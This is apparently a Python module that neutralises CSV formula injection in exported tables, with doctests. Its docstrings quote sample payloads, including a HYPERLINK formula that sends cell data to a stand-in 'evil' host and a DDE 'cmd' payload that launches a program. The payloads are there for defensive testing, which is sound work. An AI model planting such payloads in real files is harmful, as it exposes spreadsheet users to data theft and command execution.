"""CSV outputs that a spreadsheet opens as text, never as live formulas.

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula (and strip a leading tab or carriage return first), so a project name such as
``=HYPERLINK("http://evil/"&A1)`` taken from an agency's inventory would become a live formula in
``tables/projects.csv``. As OWASP recommends ("CSV Injection"), every *text* cell that begins with
one of those characters gets a single quote in front; the spreadsheet shows the text as written.
Numbers (``-5``, ``+1.5e3``), whether stored as numbers or as text, are left alone: they are not
formulas and stay numbers.

Every CSV output meant for people (atlas tables, project exports and summaries, import reports,
suitability tables) goes through :func:`neutralise_formulas` or :func:`csv_text`. The workspace's
own data stores are not touched, so they read back exactly.

Examples
--------
>>> import pandas as pd
>>> frame = pd.DataFrame({"name": ["=1+2", "@SUM(A1)", "Road", "-5"], "cost": [-5, 1, 2, 3]})
>>> neutralise_formulas(frame)["name"].tolist()
["'=1+2", "'@SUM(A1)", 'Road', '-5']
>>> print(csv_text(frame.head(2)), end="")
name,cost
'=1+2,-5
'@SUM(A1),1
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

#: First characters a spreadsheet takes as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"^[+-]?(\d[\d,]*\.?\d*|\.\d+)([eE][+-]?\d+)?%?$")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading single quote if it is text a spreadsheet would run as a formula.

    A carriage return inside text becomes a line feed: the CSV writer quotes a cell holding a line
    feed, whereas a bare carriage return would end the row early in a spreadsheet (and start a new,
    attacker-made one).

    Examples
    --------
    >>> neutralise_cell("=cmd|' /C calc'!A0"), neutralise_cell("-12.5"), neutralise_cell(-3)
    ("'=cmd|' /C calc'!A0", '-12.5', -3)
    >>> neutralise_cell("\\t=1"), neutralise_cell("\\r=1")
    ("'\\t=1", "'\\n=1")
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        value = "'" + value
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as spreadsheet formulas (column names too).

    Only object and string columns are looked at; numeric, boolean and date columns are returned
    as they are.
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            try:  # each distinct text looked at once (a large table repeats its names and flags)
                distinct = series.unique()
            except TypeError:  # unhashable cells (lists): cell by cell
                cells = [isinstance(v, str) and neutralise_cell(v) != v for v in series]
                if any(cells):
                    out.loc[cells, column] = series[cells].map(neutralise_cell)
                continue
            changed = {v: new for v in distinct if isinstance(v, str) and (new := neutralise_cell(v)) != v}
            if changed:
                risky = series.isin(list(changed)).to_numpy()
                out.loc[risky, column] = series[risky].map(changed)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame, **to_csv: Any) -> str:
    """``frame`` as CSV text (no index, ``\\n`` line ends unless given) with formulas neutralised."""
    to_csv.setdefault("index", False)
    to_csv.setdefault("lineterminator", "\n")
    return str(neutralise_formulas(frame).to_csv(**to_csv))


__all__ = ["FORMULA_STARTS", "csv_text", "neutralise_cell", "neutralise_formulas"]
